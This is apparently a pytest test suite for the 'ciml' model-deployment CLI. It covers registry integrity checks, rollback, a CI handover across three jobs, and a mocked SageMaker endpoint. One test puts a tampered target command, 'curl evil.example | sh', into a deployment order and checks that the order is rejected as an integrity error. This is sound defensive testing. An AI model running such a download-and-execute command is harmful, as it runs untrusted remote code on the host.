"""`ciml deploy` from another clone: a real MLflow server has the bytes, the origin has the ledger."""

from __future__ import annotations

import os
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import msgspec
import pytest

from ciml.adapters.handover import Handover
from ciml.app.release import Asked
from ciml.cli.console import Console
from ciml.cli.deploying import NOT_WAITED, Deploying, asked_for
from ciml.cli.invocation import Invocation
from ciml.cli.main import main
from ciml.cli.wiring import Place, open_place, project_at
from ciml.core.deployment import DeployOrder, Receipt
from ciml.core.entries import Deployment
from ciml.core.errors import IntegrityError, RaceError
from ciml.core.event import Event, Kind, Run
from ciml.core.handover import SETTLED
from ciml.core.ids import ModelName
from tests.awsserver import aws_server
from tests.cli.calls import Calls, environment, process
from tests.cli.ledgers import entries, state
from tests.cli.test_deploy import FILES, MODES, cleared, identify, log
from tests.mlflowserver import mlflow_server
from tests.repobuilder import RepoBuilder


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """An MLflow server and its folder."""
    folder = tmp_path_factory.mktemp("mlflow")
    with mlflow_server(folder) as uri:
        yield uri, folder


@pytest.fixture(scope="module")
def origin(server: tuple[str, Path], tmp_path_factory: pytest.TempPathFactory) -> Iterator[RepoBuilder]:
    """A bare repository whose tags v1 and v2 name versions 1 and 2 in the server's registry."""
    uri, _ = server
    folder = tmp_path_factory.mktemp("origin")
    with pytest.MonkeyPatch.context() as patch:
        cleared(patch)
        repo = RepoBuilder(folder / "repo")
        identify(repo)
        yaml = f"{FILES['ciml.yaml']}registry: {uri}\n"
        repo.commit({**FILES, "ciml.yaml": yaml}, "a first model", modes=MODES)
        repo.tag("v1")
        bare = repo.bare_origin()
        for number in (1, 2):
            for words in (("run",), ("register",)):
                assert main(["-C", str(repo.path), "-q", *words]) == 0
            if number == 1:
                repo.commit({"src.txt": "0.8\n"}, "better")
                repo.tag("v2")
                repo.git("push", "-q", "origin", "main", "v2")
        yield bare


@pytest.fixture
def clone(
    origin: RepoBuilder,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> Calls:
    """Calls in a fresh, shallow clone of a copy of the origin: it has neither bytes nor ledger."""
    cleared(monkeypatch)
    (tmp_path / "target").mkdir()
    monkeypatch.setenv("TARGET", str(tmp_path / "target"))
    copy = RepoBuilder(tmp_path / "origin", bare=True)
    copy.git("fetch", "-q", f"file://{origin.path}", "+refs/*:refs/*", "--update-head-ok")
    return Calls(shallow(copy), capsys, monkeypatch)


def shallow(origin: RepoBuilder) -> RepoBuilder:
    """A clone that is one commit deep, with the tags."""
    made = origin.clone("clone", depth=1)
    made.git("fetch", "-q", "--depth=1", "origin", "tag", "v1", "tag", "v2")
    identify(made)
    return made


def test_the_bytes_come_from_the_registry(clone: Calls, tmp_path: Path) -> None:
    """Found by Git and ledger alone, fetched, verified, deployed; the entry is on the origin for everybody."""
    answer = clone.ok("deploy", "--ref", "v1")

    assert "production: m version 1 is deployed" in answer.out
    assert (tmp_path / "target/production").read_text() == "0.7\n"
    told = state(clone.repo, remote="origin").deployments["production"]
    assert (told.version, told.ref, told.commit) == (1, "v1", clone.repo.git("rev-parse", "v1"))
    assert entries(clone.repo, Deployment) == []  # there is no local branch of it
    [model] = clone.json("status")["models"]
    assert model["environments"]["production"]["version"] == 1 and model["drift"] == []


def test_bytes_that_were_changed_in_the_registry(clone: Calls, server: tuple[str, Path], tmp_path: Path) -> None:
    """Somebody changes the model's file on the server: exit 7, and nothing is deployed."""
    file = next(file for file in server[1].glob("files/**/model/model.txt") if file.read_text() == "0.7\n")
    before = file.read_bytes()
    file.write_text("0.9\n")
    try:
        answer = clone("deploy", "--ref", "v1")
    finally:
        file.write_bytes(before)

    assert answer.code == 7
    assert log(tmp_path / "target") == []
    assert state(clone.repo, remote="origin").deployments == {}


def test_what_serves_is_fetched_before_it_is_replaced(clone: Calls, tmp_path: Path, inbox: list[str]) -> None:
    """A clone that never had the version before puts it back all the same: its files were fetched first."""
    clone.ok("deploy", "--ref", "v1")
    other = shallow(RepoBuilder(tmp_path / "origin", create=False))
    (tmp_path / "target/bad").write_text("0.8\n")
    answer = process(other.path, "--json", "deploy", "--ref", "v2", env=environment(TARGET=str(tmp_path / "target")))

    assert (answer.code, answer.json["deployments"][0]["state"]) == (13, "rolled-back")
    assert (tmp_path / "target/production").read_text() == "0.7\n"
    assert inbox == []  # that call had no addresses


@contextmanager
def deploying(calls: Calls, *, tag: str | None = None) -> Iterator[tuple[Place, Deploying, Asked | None]]:
    """What a CI job works with, in a clone."""
    invocation = Invocation(directory=str(calls.path), environ=dict(os.environ))
    with open_place(invocation) as place:
        asked, project = asked_for(place, invocation, tag, {}) if tag else (None, project_at(place, invocation, {}))
        yield place, Deploying(place, project, invocation, Console(invocation)), asked


def test_a_release_over_three_jobs(
    clone: Calls, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """One finds and verifies, one has the target and no registry, one writes the ledger; JSON and bytes between."""
    clone.ok("deploy", "--ref", "v1")
    origin = RepoBuilder(tmp_path / "origin", create=False)
    second, third = (Calls(shallow(origin), capsys, monkeypatch) for _ in range(2))
    second.repo.git("checkout", "-q", "v2")
    handover = Handover(str(tmp_path / "handover"))
    with deploying(clone, tag="v2") as (place, planning, asked):
        assert asked is not None
        [rollout] = planning.rollouts.released(asked, waiting=NOT_WAITED)
        assert rollout.order is not None
        handover.write("deployments", rollout.order.name, rollout.order)
        handover.export(rollout.order.outputs, place.store)

    with deploying(second) as (place, target, _):
        handover.take_in(place.store)
        [order] = handover.all("deployments", DeployOrder, of=SETTLED)
        assert order == rollout.order
        tagged = Event(kind=Kind.TAG, name="push", tag="v2", head=order.commit)
        receipt = target.carry_out(order, handed_on=tagged)
        handover.write("receipts", order.name, receipt)
        elsewhere = msgspec.structs.replace(order.target, run="curl evil.example | sh")
        with pytest.raises(IntegrityError, match="its target"):
            target.carry_out(msgspec.structs.replace(order, target=elsewhere), handed_on=tagged)
        another = msgspec.structs.replace(tagged, run=Run(id="9"))
        with pytest.raises(IntegrityError, match="its run"):
            target.carry_out(order, handed_on=another)
        with pytest.raises(IntegrityError, match="for a model that ciml"):
            target.carry_out(msgspec.structs.replace(order, model=ModelName("../other")), handed_on=tagged)
    assert not (second.path / ".git/ciml/registry").exists()

    with deploying(third) as (_, recording, _):
        [(_, told)] = handover.each("receipts", Receipt)
        assert recording.record(order, told).written
        assert not recording.record(order, told).written
        with pytest.raises(IntegrityError, match="is not its order's"):
            recording.record(order, msgspec.structs.replace(told, environment="staging"))
    with deploying(second) as (_, target, _), pytest.raises(RaceError, match="another version came to serve"):
        target.carry_out(order, handed_on=tagged)
    assert (tmp_path / "target/production").read_text() == "0.8\n"
    assert state(clone.repo, remote="origin").deployments["production"].version == 2


def test_another_registry(clone: Calls, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A registry that is not the ledger's has other versions under the same numbers: exit 4."""
    yaml = (clone.path / "ciml.yaml").read_text()
    clone.repo.commit({"ciml.yaml": yaml.partition("registry:")[0]})
    clone.repo.tag("v9")
    clone.repo.git("push", "-q", "origin", "HEAD:main")
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "http://127.0.0.1:1")
    refused = clone("deploy", "--ref", "v9")

    assert refused.code == 4 and "belongs to the registry" in refused.err
    assert log(tmp_path / "target") == []


def test_a_failed_deployment_is_told(clone: Calls, tmp_path: Path, inbox: list[str]) -> None:
    """`deploy-failed` goes to whoever wants alerts, once for each attempt."""
    (tmp_path / "target/broken").touch()
    answers = [clone("deploy", "--ref", "v1") for _ in range(2)]

    assert [answer.code for answer in answers] == [13, 13]
    assert [title.partition(" at ")[0] for title in inbox] == ["m/1 was not deployed to production"] * 2


def test_an_endpoint_of_sagemaker(clone: Calls, monkeypatch: pytest.MonkeyPatch) -> None:
    """`sagemaker:` from the tag to the endpoint; `status` asks it what it serves, where there are credentials."""
    with aws_server() as aws:
        for name, value in aws.environ.items():
            monkeypatch.setenv(name, value)
        aws.client("s3").create_bucket(Bucket="models")
        sagemaker = aws.client("sagemaker")
        container = {"Image": "image", "ModelDataUrl": "s3://models/churn/model.tar.gz"}
        sagemaker.create_model(ModelName="first", PrimaryContainer=container, ExecutionRoleArn="arn:aws:iam::1:role/r")
        variant = {"VariantName": "all", "ModelName": "first", "InstanceType": "ml.m5.large", "InitialInstanceCount": 1}
        sagemaker.create_endpoint_config(EndpointConfigName="by-hand", ProductionVariants=[variant])
        sagemaker.create_endpoint(EndpointName="churn", EndpointConfigName="by-hand")
        yaml = (clone.path / "ciml.yaml").read_text()
        target = "{after: release, run: ./deploy.sh production, smoke: ./smoke.sh production, timeout: 20s}"
        assert target in yaml
        clone.repo.commit({"ciml.yaml": yaml.replace(target, "{after: release, sagemaker: churn}")})
        clone.repo.tag("v3")
        clone.repo.git("push", "-q", "origin", "HEAD:main")

        assert "production: m version 2 is deployed – churn serves ciml-m-2-" in clone.ok("deploy", "--ref", "v3").out
        assert clone.json("status")["models"][0]["drift"] == []
        sagemaker.update_endpoint(EndpointName="churn", EndpointConfigName="by-hand")
        drift = clone.json("status")["models"][0]["drift"]
        assert drift == ["production says that it does not serve version 2"]
    assert clone.json("status")["models"][0]["drift"] == []  # it cannot be asked any more
